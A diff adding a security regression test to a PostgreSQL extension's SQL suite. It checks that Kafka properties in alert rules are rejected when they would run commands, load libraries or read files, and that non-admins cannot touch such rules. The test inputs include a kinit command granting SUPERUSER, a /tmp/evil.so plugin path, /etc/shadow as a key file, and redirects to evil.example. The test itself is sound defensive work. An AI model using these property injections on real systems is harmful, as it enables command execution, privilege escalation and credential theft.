@@ -240,6 +240,48 @@ WHERE subscription IN ('boss_sasl', 'su_sub');
 RESET ROLE;
 DROP ROLE watcher;
 
+-- 16. An alert rule's Kafka properties reach the alert sender's producer:
+-- whatever the path, none runs a command, loads a library or reads a file,
+-- nor turns off what the sender relies on.  Only administrators make such
+-- rules, and only they read them (the properties hold passwords).
+SET ROLE boss;
+SELECT rail_stream.add_alert_rule('LEEDS', 0, kafka_topic => 'evil',
+    kafka_properties => '{"sasl.kerberos.kinit.cmd": "psql -c \"ALTER ROLE boss SUPERUSER\""}');
+SELECT rail_stream.add_alert_rule('LEEDS', 0, kafka_topic => 'evil',
+    kafka_properties => '{"plugin.library.paths": "/tmp/evil.so"}');
+SELECT rail_stream.add_alert_rule('LEEDS', 0, kafka_topic => 'evil',
+    kafka_properties => '{"ssl.ca.location": "/etc/ssl/private/key.pem"}');
+SELECT rail_stream.add_alert_rule('LEEDS', 0, kafka_topic => 'evil',
+    kafka_properties => '{"sasl.mechanism": "OAUTHBEARER", "sasl.oauthbearer.token.endpoint.url": "http://evil.example/"}');
+SELECT rail_stream.add_alert_rule('LEEDS', 0, kafka_topic => 'evil',
+    kafka_properties => '{"enable.idempotence": "false", "acks": "0"}');
+INSERT INTO rail_stream.alert_rules (station, over_minutes, kafka_topic, kafka_properties)
+VALUES ('LEEDS', 0, 'evil', '{"plugin.library.paths": "/tmp/evil.so"}');
+-- an administrator uses TLS and SASL settings (PEM strings, not files)
+SELECT rail_stream.add_alert_rule('LEEDS', 45, kafka_topic => 'boss_alerts',
+    kafka_properties => '{"security.protocol": "sasl_ssl", "sasl.mechanism": "SCRAM-SHA-512",
+                          "sasl.username": "alerts", "sasl.password": "s3cret-pw"}') > 0 AS rule_added;
+-- a later UPDATE cannot sneak a forbidden property in, on this rule or another
+UPDATE rail_stream.alert_rules SET kafka_properties = kafka_properties || '{"ssl.key.location": "/etc/shadow"}'
+WHERE kafka_topic = 'boss_alerts';
+UPDATE rail_stream.alert_rules SET kafka_topic = 'evil', webhook_url = NULL,
+    kafka_properties = '{"sasl.kerberos.kinit.cmd": "id"}'
+WHERE station = 'LEEDS' AND kafka_topic IS NULL;
+SELECT kafka_topic, kafka_properties ->> 'sasl.password' AS password
+FROM rail_stream.alert_rules WHERE kafka_topic IS NOT NULL;
+RESET ROLE;
+-- no role without the admin role makes, changes or reads one
+SET ROLE mallory;
+SELECT rail_stream.add_alert_rule('LEEDS', 0, kafka_topic => 'evil');
+INSERT INTO rail_stream.alert_rules (station, over_minutes, kafka_topic)
+VALUES ('LEEDS', 0, 'evil');
+UPDATE rail_stream.alert_rules SET kafka_brokers = 'evil.example:9092' WHERE kafka_topic IS NOT NULL;
+SELECT count(*) AS kafka_rules_seen FROM rail_stream.alert_rules WHERE kafka_topic IS NOT NULL;
+RESET ROLE;
+SELECT station, kafka_topic, kafka_brokers, kafka_properties ? 'ssl.key.location' AS has_file
+FROM rail_stream.alert_rules WHERE kafka_topic IS NOT NULL;
+DELETE FROM rail_stream.alert_rules WHERE kafka_topic = 'boss_alerts';
+
 DROP VIEW public.unmapped;
 DROP TABLE public.sec_events;
 SELECT rail_stream.drop_subscription(name) FROM rail_stream.subscriptions
